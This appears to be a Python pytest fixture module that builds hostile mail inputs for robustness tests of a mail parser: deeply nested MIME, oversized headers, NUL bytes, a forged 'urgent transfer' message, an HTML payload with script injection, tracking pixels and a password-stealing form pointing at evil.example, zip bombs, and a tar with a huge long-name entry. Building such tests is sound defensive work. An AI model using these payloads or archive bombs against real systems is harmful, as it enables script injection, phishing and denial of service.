"""Input made to do harm: builders, and fixtures of the same names, for every test that must survive it.

Messages are bytes with "\\n" line ends; archives and big files are written piece by piece to a path.
"""

from __future__ import annotations

import base64
import gzip
import io
import random
import struct
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

MEGABYTE = 1_000_000

HEADER = (
    b"From: Eve <eve@evil.example>\nTo: joe@anvils.example\nSubject: hello\n"
    b"Message-ID: <hostile@evil.example>\nDate: Fri, 8 Jul 2011 12:08:34 +0000\n"
)


def deep_mime_message(levels: int = 50) -> bytes:
    """Multiparts within each other, ``levels`` deep, with a text at the bottom."""
    opening, closing = [HEADER + b"MIME-Version: 1.0\n"], []
    for level in range(levels):
        opening.append(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (level, level))
        closing.append(b"\n--b%d--\n" % level)
    return b"".join(opening) + b"Content-Type: text/plain\n\nat the bottom\n" + b"".join(reversed(closing))


def deep_attached_message(levels: int = 50) -> bytes:
    """Messages attached to messages, ``levels`` deep."""
    return (
        (HEADER + b"MIME-Version: 1.0\nContent-Type: message/rfc822\n\n") * levels
        + HEADER
        + b"\nat the bottom\n"
    )


def many_parts_message(parts: int = 20_000) -> bytes:
    """A multipart with very many tiny parts."""
    part = b"--b\nContent-Type: text/plain\n\nx\n"
    return (
        HEADER
        + b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n'
        + part * parts
        + b"--b--\n"
    )


def huge_header_message(size: int = MEGABYTE) -> bytes:
    """One header field of ``size`` bytes, folded, with no end of addresses in it."""
    address = b'"Somebody, Else" <somebody@elsewhere.example>,\n '
    return HEADER.replace(b"To: ", b"To: " + address * (size // len(address))) + b"\nbody\n"


def unfolded_header_message(size: int = MEGABYTE) -> bytes:
    """One header line of ``size`` bytes without a line end in it."""
    return b"X-Long: " + b"x" * size + b"\n" + HEADER + b"\nbody\n"


def nul_message() -> bytes:
    """NUL bytes in names, addresses, subject and body."""
    return (
        b"From: Ev\0e <eve\0@evil.example>\nTo: joe@anvils.example\nSubject: hel\0lo\n"
        b"Message-ID: <nul\0@evil.example>\nDate: Fri, 8 Jul 2011 12:08:34 +0000\n\nbo\0dy\0\n"
    )


def forged_message(own_domain: str = "anvils.example") -> bytes:
    """Comes from outside but says it is from our own side; the receiving server found it false."""
    own = own_domain.encode()
    return (
        b"Return-Path: <bounce@evil.example>\n"
        b"Received: from mx.evil.example (mx.evil.example [203.0.113.9]) by mail." + own + b"; "
        b"Fri, 8 Jul 2011 12:08:35 +0000\n"
        b"Authentication-Results: mail." + own + b"; spf=fail smtp.mailfrom=evil.example; dkim=none; "
        b"dmarc=fail header.from=" + own + b"\n"
        b'From: "The Director" <director@' + own + b">\nReply-To: director@evil.example\n"
        b"To: joe@" + own + b"\nSubject: urgent transfer\nMessage-ID: <forged@evil.example>\n"
        b"Date: Fri, 8 Jul 2011 12:08:34 +0000\n\nPlease pay this today.\n\nThe Director\n" + own + b"\n"
    )


HTML_ATTACK = """\
<html><head><title>Hi</title><script>alert('script')</script>
<style>@import url(https://track.evil.example/style.css); body{background:url(https://track.evil.example/bg.png)}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/away"><base href="https://evil.example/">
<link rel="stylesheet" href="https://track.evil.example/more.css"></head>
<body onload="alert('onload')"><p>Dear Joe,</p>
<img src="https://track.evil.example/pixel.gif?who=joe" width="1" height="1">
<img src=x onerror="alert('onerror')"><svg onload="alert('svg')"><use href="data:image/svg+xml,x"/></svg>
<iframe src="https://evil.example/frame" srcdoc="<script>alert('frame')</script>"></iframe>
<a href="javascript:alert('link')">click</a> <a href="JaVa&#115;cript:alert('entity')">here</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">or here</a>
<form action="https://evil.example/steal"><input name="password"></form>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<p style="display:none">hidden words</p><p>Regards,<br>Eve &lt;script&gt;alert('text')&lt;/script&gt;</p></body></html>
"""


def html_attack_message() -> bytes:
    """HTML with scripts, trackers, forms, and data: and javascript: links; markup in sender and subject too."""
    header = HEADER.replace(b"From: Eve", b"From: \"<script>alert('name')</script>\"")
    header = header.replace(b"hello", b"<img src=x onerror=alert('subject')>")
    return header + b"MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n" + HTML_ATTACK.encode()


MESSAGES = {
    "deep_mime": deep_mime_message,
    "deep_attached": deep_attached_message,
    "many_parts": many_parts_message,
    "huge_header": huge_header_message,
    "unfolded_header": unfolded_header_message,
    "nul": nul_message,
    "forged": forged_message,
    "html_attack": html_attack_message,
}


def write_hostile_mailbox(path: Path) -> Path:
    """An mbox of all of :data:`MESSAGES`, in that order."""
    with path.open("wb") as out:
        for make in MESSAGES.values():
            out.write(b"From eve@evil.example Fri Jul  8 12:08:34 2011\n" + make() + b"\n")
    return path


def huge_attachment_pieces(size: int = 200 * MEGABYTE) -> Iterator[bytes]:
    """A message with an attachment, together about ``size`` bytes, piece by piece; its text comes first."""
    yield HEADER + (
        b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\n'
        b"The film is attached.\n\n--b\nContent-Type: video/mp4; name=film.mp4\n"
        b"Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=film.mp4\n\n"
    )
    noise = random.Random(1)
    for _ in range(size // MEGABYTE):
        yield base64.encodebytes(noise.randbytes(MEGABYTE * 57 // 77))
    yield b"--b--\n"


def write_huge_attachment(path: Path, size: int = 200 * MEGABYTE) -> Path:
    """The message of :func:`huge_attachment_pieces` as a file."""
    with path.open("wb") as out:
        out.writelines(huge_attachment_pieces(size))
    return path


def write_zip_bomb(path: Path, unpacked: int = 1024 * MEGABYTE) -> Path:
    """A zip whose only member begins like a message and unpacks to a thousand times the archive's size."""
    block = bytes(MEGABYTE)
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("1.eml", "w", force_zip64=True) as out,
    ):
        out.write(HEADER + b"\n")
        for _ in range(unpacked // MEGABYTE):
            out.write(block)
    return path


def write_nested_zip_bomb(path: Path, levels: int = 4, width: int = 16, leaf: int = 8 * MEGABYTE) -> Path:
    """Zips of the same zips, ``width`` to the power of ``levels`` messages of ``leaf`` bytes in all."""
    data, name = HEADER + b"\n" + bytes(leaf), "message.eml"
    for _ in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(width):
                archive.writestr(f"{number}-{name}", data)
        data, name = out.getvalue(), "inner.zip"
    path.write_bytes(data)
    return path


def write_crowded_zip(path: Path, members: int = 100_000) -> Path:
    """A zip that lists very many members, all of them the same few bytes."""
    name, data = b"m", b"x"
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0x8CDC1683, 1, 1, 1, 0) + name + data
    entry = (
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0x8CDC1683, 1, 1, 1, 0, 0, 0, 0, 0, 0)
        + name
    )
    size = members * len(entry)
    far = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, members, members, size, len(local))
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(local) + size, 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    with path.open("wb") as out:
        out.write(local)
        for _ in range(members // 1000):
            out.write(entry * 1000)
        out.write(entry * (members % 1000) + far + locator + end)
    return path


def write_endless_name_tar(path: Path, size: int = 300 * MEGABYTE) -> Path:
    """A packed tar whose first member claims a name of ``size`` bytes, and a message behind it."""
    long_name = tarfile.TarInfo("././@LongLink")
    long_name.type, long_name.size = tarfile.GNUTYPE_LONGNAME, size
    message = tarfile.TarInfo("1.eml")
    body = HEADER + b"\nbody\n"
    message.size = len(body)
    with gzip.open(path, "wb", compresslevel=1) as out:
        out.write(long_name.tobuf(tarfile.GNU_FORMAT))
        for start in range(0, size, MEGABYTE):
            out.write(b"n" * min(MEGABYTE, size - start))
        out.write(
            bytes(-size % 512) + message.tobuf(tarfile.GNU_FORMAT) + body + bytes(-len(body) % 512 + 1024)
        )
    return path


@pytest.fixture
def hostile_mailbox(tmp_path: Path) -> Path:
    return write_hostile_mailbox(tmp_path / "hostile.mbox")


@pytest.fixture
def huge_attachment(tmp_path: Path) -> Path:
    return write_huge_attachment(tmp_path / "huge.eml")


@pytest.fixture
def zip_bomb(tmp_path: Path) -> Path:
    return write_zip_bomb(tmp_path / "bomb.zip")


@pytest.fixture
def nested_zip_bomb(tmp_path: Path) -> Path:
    return write_nested_zip_bomb(tmp_path / "nested.zip")


@pytest.fixture
def crowded_zip(tmp_path: Path) -> Path:
    return write_crowded_zip(tmp_path / "crowded.zip")


@pytest.fixture
def endless_name_tar(tmp_path: Path) -> Path:
    return write_endless_name_tar(tmp_path / "endless.tar.gz")
